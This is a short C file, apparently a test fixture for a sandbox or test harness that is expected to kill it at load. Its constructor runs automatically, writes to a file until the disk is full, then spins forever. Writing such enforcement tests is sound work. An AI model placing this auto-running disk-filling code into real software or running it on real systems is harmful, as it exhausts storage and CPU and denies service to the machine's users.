/* SPDX-License-Identifier: MIT */
/* kills: load.now - writes until the disk is full. */
#include <fcntl.h>
#include <unistd.h>
__attribute__((constructor)) static void begin(void) {
    static const char much[1 << 16];
    const int fd = open("much", O_WRONLY | O_CREAT, 0600);
    while (write(fd, much, sizeof much) > 0) {}
    for (;;) {}
}
#include "base.h"
